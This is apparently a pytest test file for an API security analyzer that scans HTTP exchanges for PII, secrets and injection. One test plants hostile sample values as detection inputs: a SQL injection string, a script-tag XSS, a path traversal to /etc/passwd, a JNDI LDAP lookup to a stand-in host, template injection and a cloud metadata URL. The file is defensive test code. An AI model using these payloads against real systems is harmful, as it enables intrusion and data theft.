"""The analyzer: runs detectors, contains their failures, honours budgets and caps."""

from __future__ import annotations

import json
import random
from collections.abc import Iterable

import orjson

from otel_apisec.detect import Analyzer, DetectConfig, DetectContext, Direction, Field, Trigger
from otel_apisec.detect.rule import Rule
from otel_apisec.model import AuthFacts, Body, Finding, HttpExchange, Severity
from otel_apisec.testing import make_exchange

# A rule object that is not registered in the catalog, so these tests do not touch it.
PROBE = Rule("APISEC-TST-001", "secret.probe", "probe", Severity.LOW, "API3:2023", "CWE-200", "n/a")


class WordDetector:
    """Fires on every occurrence of `needle`, with spans, like the real value detectors."""

    name = "probe"
    directions = frozenset(Direction)

    def __init__(self, needle: str = "needle") -> None:
        self.needle = needle
        self.triggers = (Trigger(needle),)

    def scan(self, field: Field, hits: frozenset[int], ctx: DetectContext) -> Iterable[Finding]:
        start = field.text.find(self.needle)
        while start >= 0:
            yield PROBE.finding(field.location, spans=((field.offset + start, field.offset + start + len(self.needle)),))
            start = field.text.find(self.needle, start + 1)


class RaisingDetector(WordDetector):
    name = "broken"

    def scan(self, field: Field, hits: frozenset[int], ctx: DetectContext) -> Iterable[Finding]:
        raise RuntimeError("bug")


class RaisingExchangeDetector:
    name = "broken-exchange"

    def __call__(self, exchange: HttpExchange, ctx: DetectContext) -> Iterable[object]:
        raise ValueError("bug")


class FactsDetector:
    name = "facts"

    def __call__(self, exchange: HttpExchange, ctx: DetectContext) -> Iterable[object]:
        yield AuthFacts(principal_hash=ctx.pseudonym("alice"))


def _analyzer(*field_detectors, exchange_detectors=(), **config) -> Analyzer:
    return Analyzer(DetectConfig(hmac_key=b"k", **config), list(field_detectors), list(exchange_detectors))


class TestAnalyzer:
    def test_finds_in_every_source(self) -> None:
        """Query, header, cookie, path and body fields are all scanned."""
        exchange = make_exchange(
            "https://h/needle?q=needle",
            method="POST",
            headers={"X-Note": "needle", "Cookie": "c=needle"},
            json={"a": ["needle"]},
            response_json={"b": "needle"},
        )
        locations = {f.location for f in _analyzer(WordDetector()).analyze(exchange).findings}
        assert locations == {
            "request.path", "request.query.q", "request.header.x-note", "request.cookie.c",
            "request.body.$.a[0]", "response.body.$.b",
        }

    def test_failing_detector_is_counted_and_others_still_run(self) -> None:
        """A detector that raises is listed in `failed`; the other detectors' findings survive."""
        analyzer = _analyzer(RaisingDetector(), WordDetector(), exchange_detectors=[RaisingExchangeDetector(), FactsDetector()])
        analysis = analyzer.analyze(make_exchange("https://h/?q=needle"))
        assert [f.location for f in analysis.findings] == ["request.query.q"]
        assert sorted(set(analysis.failed)) == ["broken", "broken-exchange"]
        assert analysis.auth.principal_hash is not None

    def test_time_budget_skips_and_lists_detectors(self) -> None:
        """With an exhausted budget, detectors are skipped and named, and nothing raises."""
        analysis = _analyzer(WordDetector(), exchange_detectors=[FactsDetector()], time_budget_ms=-1).analyze(
            make_exchange("https://h/?q=needle")
        )
        assert analysis.findings == []
        assert set(analysis.skipped) == {"probe", "facts"}

    def test_findings_are_capped_and_counted(self) -> None:
        """Beyond max_findings, findings are counted, not kept."""
        analysis = _analyzer(WordDetector(), max_findings=5).analyze(make_exchange(json={"t": "needle " * 50}))
        assert len(analysis.findings) == 5
        assert analysis.dropped_findings == 45

    def test_body_beyond_limit_is_not_scanned(self) -> None:
        """Only max_body_bytes of a body are scanned."""
        body = b"x" * 100 + b"needle"
        exchange = HttpExchange(request_body=Body(body, "text/plain"))
        assert _analyzer(WordDetector(), max_body_bytes=50).analyze(exchange).findings == []
        assert _analyzer(WordDetector(), max_body_bytes=200).analyze(exchange).findings

    def test_pseudonym_is_keyed(self) -> None:
        """The same principal hashes alike under one key and differently under another."""
        one = _analyzer(exchange_detectors=[FactsDetector()]).analyze(HttpExchange()).auth.principal_hash
        same = _analyzer(exchange_detectors=[FactsDetector()]).analyze(HttpExchange()).auth.principal_hash
        other = Analyzer(DetectConfig(hmac_key=b"other"), [], [FactsDetector()]).analyze(HttpExchange()).auth.principal_hash
        assert one == same != other
        assert "alice" not in (one or "")

    def test_json_fast_path_finds_what_the_full_parse_finds(self) -> None:
        """Skipping the parse of trigger-free JSON never loses a finding."""
        rng = random.Random(3)
        analyzer = _analyzer(WordDetector("needle"))
        words = ["alpha", "needle", "ne", "edle", "x y", "é", '"', "\\", "n\\u0065edle"]
        for _ in range(300):
            doc = {f"k{i}": rng.choice(words) + rng.choice(words) for i in range(rng.randint(0, 4))}
            if rng.random() < 0.3:
                doc["needle"] = 1
            raw = orjson.dumps(doc)
            fast = analyzer.analyze(HttpExchange(request_body=Body(raw, "application/json"))).findings
            full = analyzer.analyze(HttpExchange(request_body=Body(raw, ""))).findings
            assert fast == full, doc


def _json_exchange(raw: bytes, media: str, direction: str) -> HttpExchange:
    body = Body(raw, media)
    if direction == "request":
        return HttpExchange(method="POST", request_body=body)
    return HttpExchange(status=200, response_body=body)


class TestJsonFastPathWithRealDetectors:
    def test_hit_directed_parse_matches_full_parse(self) -> None:
        """On random JSON mixing clean and planted values, the raw-offset path reports exactly
        what parsing and scanning every field reports, for every real detector."""
        rng = random.Random(11)
        planted = [
            "jane.doe@example.org", "4111 1111 1111 1111", "4111111111111111", "+44 20 7946 0958",
            "GB82 WEST 1234 5698 7654 32", "AKIAIOSFODNN7EXAMPLE", "219-09-9999", "1' OR '1'='1' --",
            "<script>alert(1)</script>", "../../etc/passwd", "${jndi:ldap://x.example/a}", "'", "{{7*7}}",
            "http://169.254.169.254/latest", "81.2.69.160",
        ]
        clean = ["alpha", "Order shipped", "O'Brien", "https://cdn.example.com/a.png", "2024-05-01T12:00:00Z", "",
                 "Zoë", "København", "zoë.müller@example.org", "say \"hi\"", "a\\b", "tab\there"]
        keys = ["id", "email", "note", "card", "password", "url", "dob", "phone", "iban", "q"]
        analyzer = Analyzer(DetectConfig(hmac_key=b"k", enabled=frozenset({"injection", "pii", "secrets"})))

        def value(depth: int) -> object:
            roll = rng.random()
            if depth < 3 and roll < 0.15:
                return {rng.choice(keys): value(depth + 1) for _ in range(rng.randint(0, 3))}
            if depth < 3 and roll < 0.25:
                return [value(depth + 1) for _ in range(rng.randint(0, 3))]
            if roll < 0.35:
                return rng.choice([7, 4111111111111111, 12345678, -98765432, 1.5, True, None])
            return rng.choice(planted) if roll < 0.6 else rng.choice(clean) + " " + rng.choice(clean)

        for case in range(300):
            doc = {rng.choice(keys) + str(i): value(0) for i in range(rng.randint(1, 6))}
            # Half as orjson writes it (UTF-8), half escaped like Python's and Flask's default.
            raw = orjson.dumps(doc) if case % 2 else json.dumps(doc).encode()
            for direction in ("request", "response"):
                fast, full = (
                    {(f.rule_id, f.location, f.spans) for f in analyzer.analyze(_json_exchange(raw, media, direction)).findings}
                    for media in ("application/json", "")
                )
                assert fast == full, doc
